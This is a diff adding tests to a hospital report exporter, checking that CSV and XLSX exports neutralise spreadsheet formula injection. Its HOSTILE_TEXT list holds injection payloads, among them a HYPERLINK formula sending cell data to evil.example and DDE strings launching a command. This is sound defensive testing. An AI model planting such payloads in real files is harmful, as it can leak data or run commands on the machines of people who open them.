@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import gc
 import sys
 import warnings
@@ -13,10 +14,16 @@ from openpyxl import load_workbook
 from sqlalchemy import Engine, func, select
 
 from agent_app.reports.errors import ExportError
-from agent_app.reports.export import export_csv, export_xlsx
+from agent_app.reports.export import (
+    FORMULA_STARTERS,
+    export_csv,
+    export_xlsx,
+    write_csv,
+    write_xlsx,
+)
 from agent_app.reports.filters import month_filter
 from agent_app.reports.followup_stats import Grouping, agent_workload, followup_rates
-from agent_app.reports.tables import followup_rate_table, workload_table
+from agent_app.reports.tables import Table, followup_rate_table, workload_table
 from agent_app.store.repositories.audit import audit_entries
 from agent_app.store.schema import Outbox
 from tests.reports.tiny_hospital import QUALITY, TinyHospital
@@ -87,3 +94,66 @@ def test_an_xlsx_export_to_a_full_disk_says_so_and_leaves_no_file_open(
     assert leftovers == []
     assert [str(w.message) for w in caught if w.category is ResourceWarning] == []
     assert audit_entries(store_engine) == []
+
+
+# What a patient or an agent can type into a name, an answer or a complaint, and what a
+# spreadsheet would run as a formula if the file held it raw (OWASP "CSV injection").
+HOSTILE_TEXT = (
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+)
+INJECTION_TABLE = Table(
+    "导出",
+    ("=姓名", "回答", "分数", "差值", "日期"),
+    (
+        *((f"张三{i}", text, 7, -3.5, dt.date(2026, 10, 1)) for i, text in enumerate(HOSTILE_TEXT)),
+        ("李四", "-", -12, 0.0, None),
+    ),
+    "injection",
+)
+
+
+def test_csv_export_prefixes_formula_text_with_a_quote_and_keeps_numbers(tmp_path: Path) -> None:
+    path = tmp_path / "injection.csv"
+    write_csv(INJECTION_TABLE, path)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        header, *rows = list(csv.reader(handle))
+    assert header[0] == "'=姓名"
+    assert [row[1] for row in rows] == ["'" + text for text in HOSTILE_TEXT] + ["'-"]
+    assert [row[0] for row in rows][:2] == ["张三0", "张三1"]  # plain text is untouched
+    assert {(row[2], row[3]) for row in rows[:-1]} == {("7", "-3.5")}
+    assert rows[-1][2:] == ["-12", "0.0", ""]  # a negative number stays a bare number
+
+
+def test_xlsx_export_stores_formula_text_as_quoted_text_and_numbers_as_numbers(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "injection.xlsx"
+    write_xlsx([INJECTION_TABLE], path)
+    sheet = load_workbook(path)["导出"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert all(not t.startswith(FORMULA_STARTERS) for t in texts)
+    assert sheet["A1"].value == "'=姓名"
+    answers = [sheet.cell(r, 2).value for r in range(2, sheet.max_row + 1)]
+    # XML reads a carriage return back as a line feed; the quote in front is what matters
+    expected = ["'" + text.replace("\r", "\n") for text in HOSTILE_TEXT] + ["'-"]
+    assert answers == expected
+    assert [c.data_type for c in sheet["B"][1:]] == ["s"] * len(answers)
+    last = sheet.max_row
+    assert (sheet.cell(last, 3).value, sheet.cell(last, 3).data_type) == (-12, "n")
+    assert (sheet.cell(2, 4).value, sheet.cell(2, 4).data_type) == (-3.5, "n")
+    assert sheet.cell(2, 5).value == dt.datetime(2026, 10, 1)
+
+
+def test_text_that_looks_like_an_excel_error_stays_text_in_xlsx(tmp_path: Path) -> None:
+    path = tmp_path / "errors.xlsx"
+    write_xlsx([Table("t", ("回答",), (("#N/A",), ("#DIV/0!",)), "t")], path)
+    sheet = load_workbook(path)["t"]
+    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("#N/A", "s"), ("#DIV/0!", "s")]
